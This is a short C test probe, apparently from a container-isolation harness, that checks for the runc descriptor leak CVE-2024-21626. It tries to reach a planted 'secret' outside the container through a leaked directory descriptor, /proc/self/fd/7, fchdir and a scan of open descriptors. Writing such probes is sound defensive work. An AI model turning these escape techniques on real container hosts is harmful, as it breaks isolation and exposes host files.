/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Descriptors that the command was started with (CVE-2024-21626, runc): 7 is the directory OUTSIDE, 8 is its secret; and whatever
 * else came along.
 */
#include "attack.h"

#define DIRECTORY 7
#define SECRET 8

static int directory(const struct attack *a)
{
	(void)a;
	return is_secret(openat(DIRECTORY, "secret", O_RDONLY | O_CLOEXEC));
}

static int file(const struct attack *a)
{
	(void)a;
	(void)lseek(SECRET, 0, SEEK_SET);
	return is_secret(dup(SECRET));
}

static int by_proc(const struct attack *a)
{
	(void)a;
	return is_secret(open("/proc/self/fd/7/secret", O_RDONLY | O_CLOEXEC));
}

static int working_directory(const struct attack *a)
{
	(void)a;
	return fchdir(DIRECTORY) < 0 ? errno : is_secret(open("secret", O_RDONLY | O_CLOEXEC));
}

/* Any descriptor that is a directory, or a file that can be written to. */
static int others(const struct attack *a)
{
	int found = NOTHING;

	(void)a;
	for (int fd = 3; fd < 1024; fd++) {
		struct stat st;
		int flags = fcntl(fd, F_GETFL);

		if (flags < 0 || fcntl(fd, F_GETFD) & FD_CLOEXEC || fstat(fd, &st) < 0)
			continue;
		if (S_ISDIR(st.st_mode) || S_ISREG(st.st_mode))
			found = 0;
	}
	return found;
}

static const struct way ways[] = {
	{ "directory", directory }, { "file", file }, { "proc", by_proc }, { "fchdir", working_directory }, { "others", others },
};

ATTACK_MAIN(ways)
